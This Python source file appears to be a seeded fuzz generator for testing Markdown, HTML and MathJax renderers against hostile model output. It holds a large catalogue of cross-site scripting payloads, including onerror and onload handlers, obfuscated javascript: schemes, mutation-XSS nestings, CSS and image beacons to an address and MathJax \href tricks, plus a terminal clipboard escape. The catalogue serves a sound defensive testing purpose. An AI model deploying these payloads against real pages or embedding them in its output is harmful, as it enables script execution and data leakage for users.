"""Texts that a hostile model could answer: payloads in every construct that a renderer knows.

A payload marks the page (``parent.__ran``) or asks an address for something; both say which text
it was. They are wrapped in what CommonMark, GitHub's tables, MathJax and HTML know, several at a
time. The same seed gives the same texts with every Python: only ``Random.random`` is used.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from typing import Final, TypeVar

_T = TypeVar("_T")

# Put in for each text: RUN is JavaScript without quotes, URL an address, HOST it without a scheme
_HTML: Final = (
    "<script>RUN</script>",
    "<script src=URL></script>",
    "<script type=module src=URL></script>",
    "<script>import('URL')</script>",
    "<SCRIPT/x>RUN</SCRIPT\n>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\x0csrc=//HOST>",
    "<img src=x onerror=RUN>",
    '<img src="URL">',
    "<img/src=URL/>",
    "<img src=//HOST>",
    "<img\nsrc\n=\nURL\n>",
    "<img srcset='URL 1x, URL 2x'>",
    "<image src=URL>",
    "<IMG SRC=`URL` ONERROR=RUN>",
    "<img src='a>b' onerror='RUN'>",
    '<img alt="`" src=x onerror="RUN" x="`">',
    "<picture><source srcset=URL><img></picture>",
    "<video src=URL autoplay></video>",
    "<video poster=URL></video>",
    "<audio src=URL autoplay onerror=RUN></audio>",
    "<video><source src=URL onerror=RUN></video>",
    "<track src=URL>",
    "<iframe src=URL></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=URL&gt;'></iframe>",
    "<object data=URL></object>",
    "<object data=javascript:RUN></object>",
    "<embed src=URL>",
    "<embed code=URL type=text/html>",
    "<applet code=x codebase=URL></applet>",
    "<link rel=stylesheet href=URL>",
    "<link rel=preload as=image href=URL>",
    "<link rel=prefetch href=URL><link rel=icon href=URL>",
    "<link rel=import href=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;javascript:RUN'>",
    "<base href=URL/><img src=a>",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    '<p style="background:url(URL)">x</p>',
    "<p style='background-image:\\75rl(URL);list-style:url(URL)'>x",
    "<td background=URL><table background=URL>",
    "<body background=URL onload=RUN>",
    "<svg onload=RUN>",
    "<svg><image href=URL></svg>",
    "<svg><image xlink:href=URL></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><use href='URL#a'/></svg>",
    "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:RUN>",
    "<svg><foreignObject><img src=URL onerror=RUN></foreignObject></svg>",
    "<svg><style>@import 'URL';</style></svg>",
    "<svg><filter><feImage href=URL></filter></svg>",
    "<math href=javascript:RUN>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x",
    "<textarea autofocus onfocus=RUN>",
    "<input type=image src=URL>",
    "<button formaction=javascript:RUN>x</button>",
    "<form action=URL><input name=x></form>",
    "<form id=x><button form=x formaction=URL>x",
    "<isindex action=URL>",
    "<a href=javascript:RUN>x</a>",
    "<a href=URL ping=URL>x</a>",
    "<area href=javascript:RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<p style='animation:x 1s' onanimationstart=RUN>x</p><style>@keyframes x{}</style>",
    "<dialog open onclose=RUN><p popover onbeforetoggle=RUN>",
    "<x tabindex=1 autofocus onfocus=RUN>x</x>",
    "<template shadowrootmode=open><img src=URL onerror=RUN></template>",
    "<p id=cookie name=body class=x data-commandlinker-command=help:about>x</p>",
    "<custom-element onload=RUN></custom-element>",
    "<portal src=URL></portal><bgsound src=URL><frameset onload=RUN><frame src=URL>",
    "<keygen autofocus onfocus=RUN><menuitem icon=URL>",
    "<xml src=URL><?xml-stylesheet href=URL?>",
    # What a second parse makes something else of
    '<svg></p><style><a id="</style><img src=URL onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=RUN>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    '<noscript><p title="</noscript><img src=URL onerror=RUN>">',
    "<noembed><p title='</noembed><img src=URL onerror=RUN>'>",
    "<noframes><p title='</noframes><img src=URL onerror=RUN>'>",
    "<title><p title='</title><img src=URL onerror=RUN>'>",
    "<textarea><p title='</textarea><img src=URL onerror=RUN>'>",
    "<xmp><p title='</xmp><img src=URL onerror=RUN>'>",
    "<iframe><p title='</iframe><img src=URL onerror=RUN>'>",
    "<style><p title='</style><img src=URL onerror=RUN>'>",
    "<template><p title='</template><img src=URL onerror=RUN>'>",
    "<select><template><img src=URL onerror=RUN></template></select>",
    "<select><style></select><img src=URL onerror=RUN></style>",
    "<table><img src=URL onerror=RUN><tr><td>x",
    "<table><style><tr></style><td><a title='</table><img src=URL onerror=RUN>'>",
    "<table><caption><svg><desc><table><img src=URL onerror=RUN>",
    "<svg><title><img src=URL onerror=RUN></title>",
    "<svg><![CDATA[><img src=URL onerror=RUN>]]></svg>",
    "<![CDATA[<img src=URL onerror=RUN>]]>",
    "<!--><img src=URL onerror=RUN>-->",
    "<!--- --!><img src=URL onerror=RUN>",
    "<!-- <!-- --> <img src=URL onerror=RUN> -->",
    "<? ><img src=URL onerror=RUN>?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'URL'>]>&a;",
    "</ ><img src=URL onerror=RUN>",
    "</p/x='><img src=URL onerror=RUN>'>",
    "<plaintext><img src=URL onerror=RUN>",
    "<p a='\"><img src=URL onerror=RUN>'>",
    '"><img src=URL onerror=RUN>',
    "'><img src=URL onerror=RUN>",
    "</code></pre><img src=URL onerror=RUN>",
    "</td></table></div></span><img src=URL onerror=RUN>",
    "]]><img src=URL onerror=RUN>",
    "--><img src=URL onerror=RUN>",
    "</textarea></title></style></script><img src=URL onerror=RUN>",
)
_SCHEMES: Final = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java&Tab;script:", "java&NewLine;script:"),
    *("&#106;avascript:", "&#x6a&#x61vascript:", "javascript&colon;", "javascript&#58;", "\x01"),
    *(" javascript:", "&#1;javascript:", "&#x20;javascript:", "\\javascript:", "javascript\\:"),
    *(
        "java%0ascript:",
        "%6aavascript:",
        "ｊavascript:",
        "javascript：",
        "javaſcript:",
        "jаvascript:",
    ),
    *(
        "java\u200bscript:",
        "java\u00adscript:",
        "java\0script:",
        "\ufeffjavascript:",
        "//javascript:",
    ),
    *("vbscript:", "livescript:", "mocha:", "data:text/html,", "DATA:text/html;base64,", "blob:"),
    *("data:image/svg+xml,<svg onload=RUN>", "data:text/html,<script>RUN</script>", "file:///"),
    *("view-source:javascript:", "feed:javascript:", "jar:", "about:", "chrome:", "filesystem:"),
    *("http:", "http:/\\", "https:\\\\", "\\\\", "/\\", "///", "//HOST/", "HTTP:HOST", "h\tttp://"),
    *("mailto:a?body=", "MAILTO:", "tel:", "ws://HOST", "ftp://HOST/", "#", "?", "./", "/", ""),
)
_LINKS: Final = (
    "![x](URL)",
    "![](<URL>)",
    "![x](//HOST)",
    "![x](URL 'x')",
    '![x](URL "onerror=RUN")',
    '![x](URL "&quot; onerror=RUN x=&quot;")',
    '![x" onerror="RUN](URL)',
    "![x' src='URL' onerror='RUN](a)",
    "!![x](URL)",
    "!\\![x](URL)",
    "\\![x](URL)",
    "![![x](URL)](URL)",
    "[![x](URL)](javascript:RUN)",
    "![x][a]\n\n[a]: URL",
    "![a][]\n\n[a]: <URL> 'x'",
    "![a]\n\n[a]:\nURL\n(x)",
    "[a]: javascript:RUN\n\n[a] ![a] [x][a]",
    "[a]: URL '\n`\n'\n![a] `",
    "![\n](URL)",
    "![x](\nURL\n)",
    "![x](URL\n'`')` <img src=URL onerror=RUN> `",
    "![x]( URL )",
    "![*x*](URL)",
    "![`x`](URL)",
    "![x](URL){onerror=RUN}",
    "![x](SCHEMERUN)",
    "[x](SCHEMERUN)",
    "[x](<SCHEMERUN>)",
    "[x](SCHEMERUN 'x')",
    "<SCHEMERUN>",
    "[x](SCHEMERUN//)",
    "[x](SCHEMEURL)",
    "![x](SCHEMEHOST)",
    "[a]: SCHEMERUN\n\n[a]",
    "[x](URL onmouseover=RUN)",
    '[x](URL\\" onmouseover=RUN x=\\")',
    "[x](URL&quot;onmouseover=RUN&quot;)",
    "[x](URL`onmouseover=RUN`)",
    "<URL>",
    '<URL"onmouseover="RUN>',
    "<a@HOST>",
    "URL",
    "www.HOST",
    "javascript:RUN",
    "[x](javascript://%0aRUN)",
    "[x](javascript:RUN//http://a)",
    "[x](http://a@HOST) [x](http://[::1]/) [x](http://a b)",
    "[x](#x) [x](?x) [x](/x) [x](x) [x](../x) [x](files/x)",
    "[^a]\n\n[^a]: ![x](URL)",
    "[[URL]]",
    "![[URL]]",
    "[x]{URL}",
    ":::{image} URL\n:::",
    "{image}`URL`",
    "{{URL}}",
    "${RUN}",
    "[x](attachment:URL)",
    "![x](attachment:a.png)",
)
_MATHS: Final = (
    "\\href{javascript:RUN}{x}",
    "\\href{URL}{x}",
    "\\href{SCHEMERUN}{x}",
    "\\url{javascript:RUN}",
    "\\style{background:url(URL)}{x}",
    "\\class{x onload=RUN}{x}",
    "\\cssId{x}{y}",
    "\\data{commandlinker-command=help:about}{x}",
    "\\require{html}\\href{javascript:RUN}{x}",
    "\\require{action}\\texttip{x}{\\href{javascript:RUN}{y}}",
    "\\require{URL}",
    "\\unicode[x;background:url(URL)]{x41}",
    "\\includegraphics{URL}",
    "\\includegraphics[width=1]{URL}",
    "\\def\\a{\\href{javascript:RUN}}\\a{x}",
    "\\newcommand\\a[1]{\\href{#1}{x}}\\a{javascript:RUN}",
    "\\let\\b=\\href \\b{javascript:RUN}{x}",
    "\\csname href\\endcsname{javascript:RUN}{x}",
    "\\text{<img src=URL onerror=RUN>}",
    "\\text{$\\href{javascript:RUN}{x}$}",
    "\\text{\\(\\text{$\\style{background:url(URL)}{x}$}\\)}",
    "\\mbox{<script>RUN</script>}",
    "\\hbox{\\href{javascript:RUN}{x}}",
    "\\tag{$\\href{javascript:RUN}{x}$}",
    "\\label{x}\\ref{x}\\eqref{<img src=URL onerror=RUN>}",
    "\\color{url(URL)}{x}",
    "\\colorbox{red;background:url(URL)}{x}",
    "\\bbox[background:url(URL)]{x}",
    "\\enclose{box}[mathcolor=red onload=RUN]{x}",
    "\\mmlToken{mi}[href=javascript:RUN]{x}",
    "\\mathtip{x}{y} \\toggle{x}{y}\\endtoggle",
    "\\verb|<img src=URL onerror=RUN>|",
    "\\begin{array}{c}<img src=URL onerror=RUN>\\end{array}",
    "x < y > z & \\& \\< <!-- \\% -->",
    "x^2 \\frac{a}{b} \\sqrt{x}",
    "\\Bbb{<img src=URL onerror=RUN>}",
    "\\href {javascript:RUN} {x}",
    "\\ href{javascript:RUN}{x}",
    "\\hre\\f{javascript:RUN}{x}",
    "\\^^68ref{javascript:RUN}{x}",
    "\\\\href{javascript:RUN}{x}",
    "\\%\\href{javascript:RUN}{x}",
    "%\n\\href{javascript:RUN}{x}",
    "{\\rm\\href{javascript:RUN}{x}}",
    "\\unicode{60}img src=URL\\unicode{62}",
    "\\ce{\\href{javascript:RUN}{x}}",
)
_DELIMITERS: Final = (
    *(("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("\\\\(", "\\\\)")),
    *(("\\\\[", "\\\\]"), ("$", "$$"), ("$`", "`$"), ("\\begin{align}", "\\end{align}")),
    *(("\\begin {equation*}", "\\end  {equation*}"), ("\\begin{a}", "\\end{b}"), ("$ ", " $")),
    *(("\\begin{}", "\\end{}"), ("\\$", "$"), ("$", "\\$"), ("$\n", "\n$"), ("$$\n", "\n$$")),
    *(("&#36;", "&#36;"), ("&dollar;", "$"), ("$*", "*$"), ("*$*", "$"), ("$<!-- -->", "$")),
    *(("\\&#40;", "\\&#41;"), ("&bsol;(", "&bsol;)"), ("\\\\&#40;", "\\)"), ("&#92;[", "\\]")),
    *(("\\*(", "\\)"), ("\\`(`", "\\)"), ("\\<br>(", "\\)"), ("$\\", "$"), ("[x](u)$", "$")),
    *(("\\ref{", "}"), ("\\eqref{", "}"), ("\\begin{$", "\\end{$"), ("```math\n", "\n```")),
    *(("\\\n(", "\\\n)"), ("$\\\n$", "$\\\n$"), ("\\\\\\(", "\\\\\\)"), ("$$$", "$$$")),
    *(("\\begin", "{x}\\end{x}"), ("{\\begin{x}", "}\\end{x}"), ("\\(\\(", "\\)"), ("$|", "|$")),
)
_PLAIN: Final = (
    *("", "x", "word", "a b", "$5", "costs $5 and $6", "*a*", "**a**", "_a_", "~~a~~", "`a`", "\\"),
    *("``", "`", "```", "~~~", "***", "---", "===", "# ", "#", "|", "|-|-|", ":-:", "<", ">", "&"),
    *("[", "]", "(", ")", "![", "](", "[a]:", "\\`", "\\<", "\\[", "\\(", "$", "$$", "'", '"'),
    *("&lt;", "&#60;", "&#0;", "&#x80;", "&#xD800;", "&#9;", "&nbsp;", "&NotEqualTilde;", "&lt"),
    *("&amp;lt;img src=URL&amp;gt;", "&lt;img src=URL onerror=RUN&gt;", "&#60;script&#62;RUN"),
    *("\0", "\x01", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1b]52;c;YQ==\x07", "\x7f", "\x9b"),
    *("\u0085", "\u00a0", "\u00ad", "\u200b", "\u200e", "\u202e", "\u2028", "\u2029", "\u2066"),
    *("\u3000", "\ufeff", "\ufffd", "\ufffe", "\U0001d7d8", "\U000e0041", "e\u0301", "İ", "ſ", "K"),
)
_ENDS: Final = (
    *("\n",) * 12,
    *("\n\n",) * 6,
    *("\r\n", "\r", "\n\r", "\n\n\n", "\n \n", "\n\t\n", "  \n", "\\\n", " \n", "\n\x0c\n"),
    *("\x0b", "\x0c", "\x1c", "\x1e", "\u0085", "\u2028", "\u2029", "\0", "", " ", "\t", "\n> "),
)
_MARKS: Final = (
    *("> ", ">", ">>", "> > ", ">\t", "- ", "-\t", "* ", "+ ", "-", "1. ", "1) ", "0. ", "10. "),
    *("123456789. ", "- - ", "> - ", "- > ", "1. - > ", "* > 1. ", "-  ", "-     ", ">     "),
    *("  ", "   ", "    ", "     ", "\t", " \t", "\t\t", "  - ", "    - ", "# ", "## ", "#\t", "#"),
    *(
        "- ```",
        "> ```",
        "- [ ] ",
        "- [x] ",
        "| ",
        "|",
        "\u00a0",
        "\u3000",
        "\x0c",
        "\x0b",
        "\u2003",
    ),
    *(": ", "~ ", "- # ", "- ---\n", "> # ", "<p>", "<div>\n", "<!-- ", "</", "<?", "<!A ", "$$ "),
)


class Chance:
    """Draws that are the same with every Python."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)

    def below(self, count: int) -> int:
        """A number from 0 to before `count`."""
        return int(self._random.random() * count)

    def of(self, things: Sequence[_T]) -> _T:
        """One of these."""
        return things[self.below(len(things))]

    def happens(self, share: float) -> bool:
        """True that often."""
        return self._random.random() < share


def texts(seed: int, count: int, address: str, lines: int = 4) -> Iterator[str]:
    """Return so many texts.

    Parameters
    ----------
    seed, count
        Of which the texts are made, and how many.
    address
        What listens (``http://127.0.0.1:1234``); text number n asks for ``/n``, or runs n.
    lines
        How many pieces a text has at most; a piece is one line or a few.
    """
    chance = Chance(seed)
    for number in range(count):
        pieces = [_piece(chance) for _ in range(1 + chance.below(lines))]
        text = "".join(piece + chance.of(_ENDS) for piece in pieces)
        if chance.happens(0.1):  # a stream that was cut
            text = text[: chance.below(len(text) + 1)]
        yield _filled(text, number, address)


def control(number: int, address: str) -> str:
    """A text that runs, and asks, in every renderer that lets HTML through."""
    return _filled("<img src=URL onerror=RUN>", number, address)


def code(chance: Chance, address: str) -> str:
    """Lines of such texts as they stand in a block of code: no NUL, no lone CR."""
    lines = "\n".join(text for text in texts(chance.below(1 << 30), 2, address))
    return "".join("x" if char in "\0\r" else char for char in lines)


def _filled(text: str, number: int, address: str) -> str:
    run = f"parent.__ran={number}"
    host = f"{address.partition('//')[2]}/{number}"
    return text.replace("RUN", run).replace("URL", f"{address}/{number}").replace("HOST", host)


def _piece(chance: Chance) -> str:
    """A payload in one to four wrappers, or something harmless."""
    if chance.happens(0.15):
        return _plain(chance)
    text = _payload(chance)
    for _ in range(chance.of((0, 0, 1, 1, 2, 3, 4))):
        text = chance.of(_WRAPPERS)(chance, text)
    return text


def _payload(chance: Chance) -> str:
    if chance.happens(0.45):
        text = chance.of(_HTML)
    elif chance.happens(0.6):
        text = chance.of(_LINKS).replace("SCHEME", chance.of(_SCHEMES))
    else:
        text = _maths(chance, chance.of(_MATHS)).replace("SCHEME", chance.of(_SCHEMES))
    return text


def _plain(chance: Chance) -> str:
    return "".join(chance.of(_PLAIN) for _ in range(1 + chance.below(6)))


def _maths(chance: Chance, text: str) -> str:
    begin, end = chance.of(_DELIMITERS)
    return begin + text + end


def _marked(chance: Chance, text: str) -> str:
    """Each line in a container, or only the first, with lines that continue lazily."""
    mark = chance.of(_MARKS)
    if chance.happens(0.3):
        return mark + text
    rest = chance.of((mark, " " * len(mark), mark.strip(), ""))
    return mark + text.replace("\n", "\n" + rest)


def _fenced(chance: Chance, text: str) -> str:
    mark = chance.of(("```", "````", "~~~", "`", "``", "```\t", "    ", "``` `", "~~~~"))
    info = chance.of(
        ("", "python", "html", "math", "mermaid", '"><img src=URL onerror=RUN>', "{x}")
    )
    end = chance.of((mark, "", mark[:-1], " " + mark, "    " + mark, mark + " x", "> " + mark))
    return f"{mark}{info}\n{text}\n{end}"


def _spanned(chance: Chance, text: str) -> str:
    mark = chance.of(("`", "``", "```", "\\`", "` ", "*", "**", "_", "~~", "***", "~", "$", "\\("))
    end = chance.of((mark, mark, mark, mark[:-1], "", "\n\n" + mark, "\\" + mark))
    return mark + text + end


def _titled(chance: Chance, text: str) -> str:
    form = chance.of(
        (
            "[a]: u '%s'\n\n[a] ![a]",
            "[a]: <%s>\n\n[a] ![a]",
            "[a](u '%s')",
            '![a](u "%s")',
            "[%s](u)",
            "![%s](u)",
            "[%s][a]\n\n[a]: u",
            "[a]:\n%s\n\n[a]",
            "[%s]: u\n\n[%s]",
            "[a](<%s>)",
            "<http://a/%s>",
            "[a]: u\n'%s\n---\n",
        )
    )
    return form.replace("%s", text)


def _blocked(chance: Chance, text: str) -> str:
    form = chance.of(
        (
            "# %s",
            "%s\n===",
            "%s\n---",
            "#%s#",
            "x\n    %s",
            "x\n\n    %s",
            "- x\n\n      %s",
            "`x\n---\n    %s`",
            "| a | b |\n|---|---|\n| %s | x |",
            "a|b\n-|-\n%s|`|`\n",
            "|%s|\n|:-:|",
            "| a |\n|-|\n> %s",
            "| ` | %s ` |\n|-|-|\n| \\| | %s |",
            "<div>\n%s\n</div>",
            "<!--\n%s\n-->",
            "<pre>\n\n%s</pre>",
            "<x>\n\n%s",
            "<script>\n%s",
            "***\n%s\n***",
            "- a\n%s",
            "> a\n%s",
            "1. a\n\n   %s\n2. b",
            "%s\n: x",
            "<details><summary>%s</summary>\n\n%s",
        )
    )
    return form.replace("%s", text)


def _escaped(chance: Chance, text: str) -> str:
    """Some characters written in another way, or something put between them."""
    forms: tuple[Callable[[str], str], ...] = (
        lambda c: f"&#{ord(c)};",
        lambda c: f"&#x{ord(c):X};",
        lambda c: "\\" + c,
        lambda c: f"%{ord(c):02x}" if ord(c) < 128 else c,
        lambda c: c.swapcase(),
        lambda c: chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c,
        lambda c: c + chance.of(_PLAIN),
    )
    form = chance.of(forms)
    share = chance.of((0.02, 0.1, 1.0))
    return "".join(
        form(c) if c in "<>\"'`=:/$\\&![]()j" and chance.happens(share) else c for c in text
    )


def _between(chance: Chance, text: str) -> str:
    """Something put between the lines, or somewhere into the text."""
    if "\n" in text and chance.happens(0.5):
        return text.replace("\n", chance.of(_ENDS))
    place = chance.below(len(text) + 1)
    return text[:place] + _plain(chance) + text[place:]


def _beside(chance: Chance, text: str) -> str:
    begin, end = _plain(chance), _plain(chance)
    return begin + text + end


_WRAPPERS: Final[tuple[Callable[[Chance, str], str], ...]] = (
    *(_marked, _marked, _marked, _fenced, _spanned, _spanned, _titled, _blocked, _blocked),
    *(_escaped, _between, _beside, _maths),
)

# What a renderer could take too long over, or make too much of, when it is repeated
_UNITS: Final = (
    *(
        "[",
        "![",
        "]",
        "[a](",
        "![a](",
        "[a](<",
        "[a][",
        "[a]: ",
        "[a]: u\n",
        "[a]",
        "![a]",
        "(",
        "<",
    ),
    *(
        "`",
        "``` ",
        "` ",
        "a`",
        "*",
        "**",
        "_",
        "*a ",
        "a*",
        "*a_ ",
        "**a ",
        "_a",
        "~~",
        "~~a ",
        "~",
    ),
    *("> ", ">", "> >\n", "- ", "- \n", "* a\n", "1. ", "1) a\n", "  - a\n", "#", "# a\n", "---\n"),
    *(
        "a\n---\n",
        "===\n",
        "\t",
        " ",
        "\n",
        "\n\n",
        "\r",
        "\x0c",
        "\0",
        "\\",
        "\\\n",
        "  \n",
        "a",
        "é",
    ),
    *(
        "|",
        "|a",
        "|a|b\n|-|-\n",
        "|-",
        "|\n",
        "a|b\n",
        "&",
        "&#",
        "&lt;",
        "&a",
        "&#x",
        "&#35;",
        "&\n",
    ),
    *("<a ", "</", "<!--", "<?", "<![CDATA[", "<a>", "<http://", "<http://a>", "<a@", "a@b.c "),
    *(
        "$",
        "$$",
        "$a",
        "$a$",
        "$ ",
        "\\(",
        "\\[",
        "\\(a",
        "\\)",
        "\\(a\\)",
        "\\begin{",
        "\\begin{a}",
    ),
    *(
        "\\end{a}",
        "\\ref{",
        "\\eqref{a}",
        "\\$",
        "${",
        "$\\",
        "$5 ",
        "{",
        "}",
        "\\frac",
        "\\a{",
        "'",
        '"',
    ),
    *(
        "http://a ",
        "www.a ",
        "https://",
        "mailto:a ",
        "javascript:",
        "a.b",
        "://",
        "\u2028",
        "\U0001f600",
    ),
    *(
        "```\n",
        "~~~\n",
        "```a\n```\n",
        "    a\n",
        "\ta\n\n",
        "-\n-\n",
        "> ```\n",
        "- ```\n",
        ">\n\n",
    ),
)
_MIXTURES: Final = (
    *(("[", "]("), ("*", "_"), ("![", "`"), ("$", "\\("), ("$", "`"), ("[a](", "<"), ("**", "~~")),
    *(
        ("> ", "- "),
        ("|", "`"),
        ("|", "$"),
        ("\\", "$"),
        ("\\begin{", "\\end{"),
        ("[", "*"),
        ("<", "`"),
    ),
    *(
        ("*a **b ", "c* "),
        ("[a]: <", "\n"),
        ("![[]", "()"),
        ("&#", ";"),
        ("\\[", "$"),
        ("_a*", "**_"),
    ),
    *(("- a\n", "> b\n"), ("\\(", "$$"), ("~~", "*"), ("[^a]: ", "\n\n"), ("`", "\\`"), ("{", "$")),
)

CONSTRUCTS: Final[dict[str, str]] = {
    repr(unit): unit for unit in (*_UNITS, *("".join(mixture) for mixture in _MIXTURES))
}
